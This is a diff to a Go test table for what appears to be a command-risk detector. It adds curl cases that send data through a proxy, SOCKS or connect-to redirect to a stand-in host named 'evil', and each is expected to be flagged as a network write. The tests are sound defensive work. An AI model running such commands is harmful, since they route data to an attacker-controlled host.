@@ -237,4 +237,17 @@ var networkCases = []commandCase{
 	{"ssh -o StrictHostKeyChecking=no host uptime", []string{
 		"medium safety_off: ssh -o StrictHostKeyChecking=no host uptime",
 	}},
+	{"curl -x evil:80 -d a http://localhost/", []string{
+		"medium network_write: curl -x evil:80 -d a http://localhost/",
+	}},
+	{"curl --socks5 evil -d a http://localhost/", []string{
+		"medium network_write: curl --socks5 evil -d a http://localhost/",
+	}},
+	{"curl --connect-to ::evil: -d a http://localhost/", []string{
+		"medium network_write: curl --connect-to ::evil: -d a http://localhost/",
+	}},
+	{"curl -sx evil:80 -d a http://localhost/", []string{
+		"medium network_write: curl -sx evil:80 -d a http://localhost/",
+	}},
+	{"curl -d a http://localhost/", nil},
 }
